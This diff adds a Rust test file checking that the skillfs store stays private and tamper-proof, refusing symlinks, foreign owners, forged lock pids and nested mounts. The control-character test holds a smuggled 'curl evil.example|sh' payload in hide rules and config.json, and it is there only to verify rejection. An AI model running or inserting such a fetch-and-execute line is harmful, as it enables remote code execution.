@@ -1,0 +1,513 @@
+//! The store is private and tamper-proof, and nothing outside ROOT and the
+//! store is written (contract G8; issue 11, items 2 and 7). Every refusal
+//! is one line with its documented exit code, and leaves the store and ROOT
+//! exactly as they were (modes and owners included).
+
+mod common;
+
+use std::collections::BTreeMap;
+use std::fs;
+use std::os::unix::fs::{MetadataExt, PermissionsExt, symlink};
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+use std::time::{Duration, Instant};
+
+use common::{Mount, Scratch, describe, is_mounted, lazy_unmount, pid_alive, skillfs};
+
+const NOBODY: u32 = 65534;
+
+/// Every entry under `dir` (not following symlinks): mode, owner, and the
+/// bytes of a file or the target of a link.
+fn snapshot(dir: &Path) -> BTreeMap<PathBuf, (u32, u32, Vec<u8>)> {
+    let mut out = BTreeMap::new();
+    let mut stack = vec![dir.to_path_buf()];
+    while let Some(d) = stack.pop() {
+        let Ok(entries) = fs::read_dir(&d) else {
+            continue;
+        };
+        for e in entries {
+            let p = e.unwrap().path();
+            let md = fs::symlink_metadata(&p).unwrap();
+            let data = if md.is_dir() {
+                stack.push(p.clone());
+                Vec::new()
+            } else if md.file_type().is_symlink() {
+                fs::read_link(&p)
+                    .unwrap()
+                    .into_os_string()
+                    .into_encoded_bytes()
+            } else {
+                fs::read(&p).unwrap_or_default()
+            };
+            out.insert(p, (md.mode(), md.uid(), data));
+        }
+    }
+    out
+}
+
+fn assert_refused(out: &Output, code: i32, words: &[&str]) {
+    assert_eq!(out.status.code(), Some(code), "{}", describe(out));
+    let err = String::from_utf8_lossy(&out.stderr);
+    let lines: Vec<&str> = err.lines().collect();
+    assert_eq!(lines.len(), 1, "one line expected: {err}");
+    assert!(lines[0].starts_with("skillfs: "), "{err}");
+    for w in words {
+        assert!(lines[0].contains(w), "'{w}' missing from: {err}");
+    }
+}
+
+fn mode(p: &Path) -> u32 {
+    fs::symlink_metadata(p).unwrap().mode() & 0o7777
+}
+
+fn chmod(p: &Path, m: u32) {
+    fs::set_permissions(p, fs::Permissions::from_mode(m)).unwrap();
+}
+
+/// Every directory and file of the store with a mode other than 0700 (dirs)
+/// or 0600/0400 (files), or owned by someone else. Not looked into: the
+/// entries of `parked/<key>/` and `orphans/<aside>/` (the user's own, with
+/// their own modes) and of `staging/` and `tmp/` (scratch of open writers,
+/// emptied at mount; the directories themselves are checked).
+fn open_entries(store: &Path) -> Vec<String> {
+    fn check(p: &Path, bad: &mut Vec<String>) -> bool {
+        let Ok(md) = fs::symlink_metadata(p) else {
+            return false; // gone meanwhile
+        };
+        let m = md.mode() & 0o7777;
+        let ok = if md.is_dir() {
+            m == 0o700
+        } else {
+            md.is_file() && (m == 0o600 || m == 0o400)
+        };
+        if !ok || md.uid() != unsafe { libc::geteuid() } {
+            bad.push(format!("{} {:o} uid {}", p.display(), m, md.uid()));
+        }
+        md.is_dir()
+    }
+    fn all(d: &Path, bad: &mut Vec<String>) {
+        for e in fs::read_dir(d).unwrap().flatten() {
+            if check(&e.path(), bad) {
+                all(&e.path(), bad);
+            }
+        }
+    }
+    let mut bad = Vec::new();
+    check(store, &mut bad);
+    for e in fs::read_dir(store).unwrap().flatten() {
+        let p = e.path();
+        if !check(&p, &mut bad) {
+            continue;
+        }
+        match e.file_name().to_str().unwrap() {
+            "parked" | "orphans" => {
+                for area in fs::read_dir(&p).unwrap().flatten() {
+                    check(&area.path(), &mut bad);
+                }
+            }
+            "staging" | "tmp" => {}
+            _ => all(&p, &mut bad),
+        }
+    }
+    bad
+}
+
+/// Detaches whatever a refused mount (one that was wrongly accepted) left
+/// mounted, so a failing test leaves no mount behind.
+struct Detach(Vec<PathBuf>);
+
+impl Drop for Detach {
+    fn drop(&mut self) {
+        for root in &self.0 {
+            if is_mounted(root) {
+                lazy_unmount(root);
+            }
+        }
+    }
+}
+
+fn skill(root: &Path, rel: &str, body: &str) {
+    fs::create_dir_all(root.join(rel)).unwrap();
+    fs::write(root.join(rel).join("SKILL.md"), body).unwrap();
+}
+
+/// Fills a store through the mount: journal, packed and loose blobs, a
+/// park, an orphan area.
+fn exercise(m: &Mount) {
+    skill(&m.root(), "cat/foo", "---\nname: foo\n---\n");
+    fs::write(m.path("cat/foo/big.bin"), vec![7u8; 300 * 1024]).unwrap();
+    fs::create_dir(m.path("cat/old.bak")).unwrap();
+    fs::write(m.path("cat/old.bak/x.md"), "x").unwrap();
+    fs::write(m.path("cat/foo/.SKILL.md.tmp.1"), "tmp").unwrap();
+}
+
+#[test]
+fn the_store_is_private_whatever_the_umask() {
+    for mask in [0o000, 0o022] {
+        let s = Scratch::new(&format!("modes{mask:o}"));
+        let mut m = Mount::over_umask(s, Vec::new(), Some(mask));
+        exercise(&m);
+        let bad = open_entries(&m.store());
+        assert!(bad.is_empty(), "umask {mask:o}, while mounted: {bad:#?}");
+        m.umount();
+        let bad = open_entries(&m.store());
+        assert!(bad.is_empty(), "umask {mask:o}: {bad:#?}");
+        assert_eq!(mode(&m.scratch.dir.join(".skillfs")), 0o700);
+        assert!(
+            m.store().join("blobs/packs").is_dir() && m.store().join("ROOT").is_file(),
+            "the test must cover packs and the ROOT file"
+        );
+        // The user's parked entries keep their own modes.
+        let parked = fs::read_dir(m.store().join("parked")).unwrap().count();
+        assert!(parked > 0, "the test must cover a park");
+    }
+}
+
+#[test]
+fn a_store_others_can_enter_is_repaired_at_mount() {
+    let mut m = Mount::new("repair");
+    exercise(&m);
+    m.umount();
+    let st = m.store();
+    let seg = fs::read_dir(st.join("journal"))
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .path();
+    let pack = fs::read_dir(st.join("blobs/packs"))
+        .unwrap()
+        .next()
+        .unwrap()
+        .unwrap()
+        .path();
+    chmod(&m.scratch.dir.join(".skillfs"), 0o777);
+    for d in ["", "journal", "blobs", "parked", "staging"] {
+        chmod(&st.join(d), 0o777);
+    }
+    chmod(&seg, 0o666);
+    chmod(&pack, 0o444);
+    chmod(&st.join("RULES"), 0o644);
+    m.remount();
+    let bad = open_entries(&st);
+    assert!(bad.is_empty(), "not repaired: {bad:#?}");
+    assert_eq!(mode(&seg), 0o600);
+    assert_eq!(mode(&pack), 0o400);
+    assert_eq!(mode(&m.scratch.dir.join(".skillfs")), 0o700);
+    let log = fs::read_to_string(st.join("daemon.log")).unwrap_or_default();
+    assert!(log.contains("repaired the mode of"), "{log}");
+    fs::write(m.path("cat/after.md"), "still works").unwrap();
+}
+
+#[test]
+fn an_entry_owned_by_another_user_is_refused() {
+    let mut m = Mount::new("foreign");
+    exercise(&m);
+    m.umount();
+    let _detach = Detach(vec![m.root()]);
+    for rel in ["journal", "parked", "blobs/packs", ""] {
+        let p = if rel.is_empty() {
+            m.store()
+        } else {
+            m.store().join(rel)
+        };
+        // A journal segment, a park, a directory, the store itself.
+        let entry = if rel == "journal" || rel == "parked" {
+            fs::read_dir(&p).unwrap().next().unwrap().unwrap().path()
+        } else {
+            p
+        };
+        std::os::unix::fs::lchown(&entry, Some(NOBODY), Some(NOBODY)).unwrap();
+        let before = snapshot(&m.scratch.dir);
+        let out = skillfs(&["mount", m.root().to_str().unwrap()]);
+        let name = entry.file_name().unwrap().to_str().unwrap();
+        assert_refused(&out, 4, &[name, "owned by uid 65534"]);
+        assert!(!is_mounted(&m.root()));
+        assert_eq!(snapshot(&m.scratch.dir), before, "{rel}: something changed");
+        std::os::unix::fs::lchown(&entry, Some(0), Some(0)).unwrap();
+    }
+    m.remount();
+}
+
+#[test]
+fn a_symlink_in_the_store_is_refused_and_its_target_untouched() {
+    let mut m = Mount::new("symlinked");
+    fs::write(m.path("a.md"), "a").unwrap();
+    m.umount();
+    let victim = m.scratch.dir.join("victim.txt");
+    let _detach = Detach(vec![m.root()]);
+    for name in ["RULES", "daemon.log", "LOCK", "config.json"] {
+        fs::write(&victim, "victim's own line\n").unwrap();
+        let link = m.store().join(name);
+        let _ = fs::remove_file(&link);
+        symlink(&victim, &link).unwrap();
+        let before = snapshot(&m.scratch.dir);
+        let out = skillfs(&["mount", m.root().to_str().unwrap(), "--hide", "zz"]);
+        assert_refused(&out, 4, &[name, "is a symlink"]);
+        assert_eq!(fs::read(&victim).unwrap(), b"victim's own line\n");
+        assert_eq!(
+            snapshot(&m.scratch.dir),
+            before,
+            "{name}: something changed"
+        );
+        fs::remove_file(&link).unwrap();
+    }
+    m.remount();
+    assert!(
+        !fs::symlink_metadata(m.store().join("RULES"))
+            .unwrap()
+            .file_type()
+            .is_symlink()
+    );
+}
+
+#[test]
+fn a_store_in_a_directory_anyone_can_write_is_refused() {
+    let s = Scratch::new("openparent");
+    let _detach = Detach(vec![s.root()]);
+    let shared = s.dir.join("shared");
+    fs::create_dir(&shared).unwrap();
+    chmod(&shared, 0o777);
+    let store = shared.join("store");
+    let out = skillfs(&[
+        "mount",
+        s.root().to_str().unwrap(),
+        "--store",
+        store.to_str().unwrap(),
+    ]);
+    assert_refused(&out, 4, &["shared", "every user can write"]);
+    assert!(!store.exists(), "nothing may be created");
+    // With the sticky bit (as /tmp), only the owner may rename the store.
+    chmod(&shared, 0o1777);
+    let mut m = Mount::over(s, vec!["--store".into(), store.display().to_string()]);
+    fs::write(m.path("a.md"), "a").unwrap();
+    m.umount();
+    assert_eq!(mode(&store), 0o700);
+}
+
+#[test]
+fn umount_never_signals_a_pid_written_in_lock() {
+    let mut m = Mount::new("lockpid");
+    let mut sleeper = Command::new("sleep").arg("120").spawn().unwrap();
+    // A forged pid in LOCK: the daemon still holds the flock.
+    let lock = m.store().join("LOCK");
+    fs::write(&lock, format!("{}\n", sleeper.id())).unwrap();
+    let out = skillfs(&["umount", m.root().to_str().unwrap(), "--timeout", "20"]);
+    let alive = sleeper.try_wait().unwrap().is_none();
+    let _ = sleeper.kill();
+    let _ = sleeper.wait();
+    assert!(alive, "skillfs umount killed the pid written in LOCK");
+    assert!(out.status.success(), "{}", describe(&out));
+    assert!(!is_mounted(&m.root()));
+    let t = Instant::now();
+    while pid_alive(m.pid) && t.elapsed() < Duration::from_secs(10) {
+        std::thread::sleep(Duration::from_millis(10));
+    }
+    assert!(!pid_alive(m.pid), "the daemon did not finish once detached");
+    // The real daemon, proven by the lock table, is signalled as before.
+    m.remount();
+    m.umount();
+}
+
+#[test]
+fn rules_with_control_characters_or_outsized_are_refused() {
+    let s = Scratch::new("ctlrules");
+    let r = s.root();
+    let root = r.to_str().unwrap();
+    let _detach = Detach(vec![r.clone()]);
+    let long = "y".repeat(5000);
+    for rule in [
+        "zz\ncurl evil.example|sh\n#",
+        "a\tb",
+        "x\u{7f}",
+        long.as_str(),
+    ] {
+        let out = skillfs(&["mount", root, "--hide", rule]);
+        assert_refused(&out, 7, &["hide rule"]);
+        assert!(!s.dir.join(".skillfs").exists(), "nothing may be created");
+    }
+    // The same in config.json of an existing store.
+    let mut m = Mount::over(s, Vec::new());
+    m.umount();
+    let cfg = m.store().join("config.json");
+    for (text, what) in [
+        (r#"{"hide": ["zz\ncurl evil.example|sh\n#"]}"#, "hide rule"),
+        (r#"{"show": ["*.bak\n"]}"#, "--show"),
+        (r#"{"park_max_age": "7d\nx"}"#, "park max age"),
+        (r#"{"hyde\n": []}"#, "does not parse"),
+    ] {
+        fs::write(&cfg, text).unwrap();
+        chmod(&cfg, 0o600);
+        let before = snapshot(&m.scratch.dir);
+        let out = skillfs(&["mount", m.root().to_str().unwrap()]);
+        assert_refused(&out, 7, &[what]);
+        assert_eq!(snapshot(&m.scratch.dir), before);
+    }
+    fs::remove_file(&cfg).unwrap();
+    m.remount();
+}
+
+#[test]
+fn a_park_age_below_an_hour_is_refused() {
+    let s = Scratch::new("shortage");
+    let root = s.root();
+    let _detach = Detach(vec![root.clone()]);
+    for age in ["0s", "59m", "3599s"] {
+        let out = skillfs(&["mount", root.to_str().unwrap(), "--park-max-age", age]);
+        assert_refused(&out, 7, &[age, "below 1h", "temp file"]);
+        assert!(!s.dir.join(".skillfs").exists(), "nothing may be created");
+    }
+    let mut m = Mount::over(s, vec!["--park-max-age".into(), "1h".into()]);
+    m.umount();
+    let cfg = m.store().join("config.json");
+    fs::write(&cfg, r#"{"park_max_age": "0s"}"#).unwrap();
+    chmod(&cfg, 0o600);
+    let before = snapshot(&m.scratch.dir);
+    let out = skillfs(&["mount", m.root().to_str().unwrap()]);
+    assert_refused(&out, 7, &["0s", "below 1h"]);
+    assert_eq!(snapshot(&m.scratch.dir), before);
+}
+
+#[test]
+fn restore_through_a_symlinked_parent_is_refused() {
+    let m = Mount::new("restorelink");
+    let outside = m.scratch.dir.join("outside");
+    fs::create_dir(&outside).unwrap();
+    fs::write(outside.join("SKILL.md"), "OUTSIDE ORIGINAL").unwrap();
+    skill(&m.root(), "sk", "sk v1");
+    skill(&m.root(), "cat/deep", "deep v1");
+    let id = m.log().last().unwrap()["seq"].as_u64().unwrap().to_string();
+    fs::remove_dir_all(m.path("sk")).unwrap();
+    symlink(&outside, m.path("sk")).unwrap();
+    fs::remove_dir_all(m.path("cat")).unwrap();
+    fs::create_dir(m.path("cat")).unwrap();
+    symlink(&outside, m.path("cat/deep")).unwrap();
+    let root = m.root().to_str().unwrap().to_string();
+    let records = m.log().len();
+    let before = snapshot(&outside);
+    for (path, link) in [("sk/SKILL.md", "'sk'"), ("cat/deep/SKILL.md", "'cat/deep'")] {
+        let out = skillfs(&["restore", "--root", &root, &id, path]);
+        assert_refused(&out, 2, &[link, "symlink", "inside ROOT"]);
+        assert_eq!(snapshot(&outside), before, "{path}: outside changed");
+    }
+    assert_eq!(
+        fs::read(outside.join("SKILL.md")).unwrap(),
+        b"OUTSIDE ORIGINAL"
+    );
+    assert_eq!(common::names(&outside), ["SKILL.md"]);
+    assert_eq!(m.log().len(), records, "nothing recorded");
+    // Restoring the link itself puts the directory back, inside ROOT.
+    let out = skillfs(&["restore", "--root", &root, &id, "sk"]);
+    assert!(out.status.success(), "{}", describe(&out));
+    assert_eq!(fs::read(m.path("sk/SKILL.md")).unwrap(), b"sk v1");
+    assert_eq!(
+        fs::read(outside.join("SKILL.md")).unwrap(),
+        b"OUTSIDE ORIGINAL"
+    );
+    let out = skillfs(&["restore", "--root", &root, &id, "sk/SKILL.md"]);
+    assert!(out.status.success(), "{}", describe(&out));
+}
+
+#[test]
+fn a_root_inside_a_store_is_refused() {
+    let mut m = Mount::new("rootinstore");
+    fs::write(m.path("a.md"), "a").unwrap();
+    m.umount();
+    let st = m.store();
+    let inner = st.join("parked").join("inner");
+    fs::create_dir(&inner).unwrap();
+    chmod(&inner, 0o700);
+    let _detach = Detach(vec![inner.clone(), st.clone()]);
+    let before = snapshot(&m.scratch.dir);
+    // With the store given, and with the default store (beside ROOT, so
+    // itself inside the store).
+    for extra in [vec!["--store", st.to_str().unwrap()], vec![]] {
+        let mut args = vec!["mount", inner.to_str().unwrap()];
+        args.extend(extra);
+        let out = skillfs(&args);
+        assert_refused(&out, 4, &["inside the skillfs store"]);
+        assert!(!is_mounted(&inner));
+        assert_eq!(snapshot(&m.scratch.dir), before);
+    }
+    // The store itself as ROOT.
+    let out = skillfs(&[
+        "mount",
+        st.to_str().unwrap(),
+        "--store",
+        st.to_str().unwrap(),
+    ]);
+    assert_refused(&out, 4, &["inside the skillfs store"]);
+    assert_eq!(snapshot(&m.scratch.dir), before);
+    fs::remove_dir(&inner).unwrap();
+}
+
+#[test]
+fn a_store_of_another_root_is_refused() {
+    let mut a = Mount::new("storeofa");
+    fs::write(a.path("a.md"), "a").unwrap();
+    a.umount();
+    let b = Scratch::new("storeofb");
+    let _detach = Detach(vec![b.root()]);
+    fs::write(b.root().join("b.md"), "b").unwrap();
+    let before = (snapshot(&a.scratch.dir), snapshot(&b.dir));
+    let out = skillfs(&[
+        "mount",
+        b.root().to_str().unwrap(),
+        "--store",
+        a.store().to_str().unwrap(),
+    ]);
+    assert_refused(
+        &out,
+        4,
+        &[
+            a.root().to_str().unwrap(),
+            b.root().to_str().unwrap(),
+            "one store per root",
+        ],
+    );
+    assert!(!is_mounted(&b.root()));
+    assert_eq!((snapshot(&a.scratch.dir), snapshot(&b.dir)), before);
+    // A store from before the ROOT file: it gets one at its next mount.
+    let id = a.store().join("ROOT");
+    fs::remove_file(&id).unwrap();
+    a.remount();
+    let text = fs::read(&id).unwrap();
+    assert!(text.ends_with(format!("{}\n", a.root().display()).as_bytes()));
+    assert_eq!(mode(&id), 0o600);
+}
+
+#[test]
+fn nested_mounts_are_refused() {
+    let m = Mount::new("nested");
+    fs::create_dir(m.path("cat")).unwrap();
+    fs::write(m.path("cat/a.md"), "a").unwrap();
+    let records = m.log().len();
+    // ROOT inside a mounted skillfs.
+    let inner = m.path("cat");
+    let _detach = Detach(vec![inner.clone(), m.scratch.dir.clone()]);
+    let out = skillfs(&["mount", inner.to_str().unwrap()]);
+    assert_refused(&out, 3, &["inside the skillfs mount"]);
+    assert_eq!(
+        common::names(&m.root()),
+        ["cat"],
+        "no store in the outer tree"
+    );
+    assert_eq!(
+        m.log().len(),
+        records,
+        "nothing recorded in the outer store"
+    );
+    // ROOT above a mounted skillfs.
+    let other = Scratch::new("nested-store");
+    let store = other.dir.join("store");
+    let above = &m.scratch.dir;
+    let out = skillfs(&[
+        "mount",
+        above.to_str().unwrap(),
+        "--store",
+        store.to_str().unwrap(),
+    ]);
+    assert_refused(&out, 3, &["holds the skillfs mount"]);
+    assert!(!store.exists(), "no store may be created");
+    fs::write(m.path("cat/b.md"), "still works").unwrap();
+}
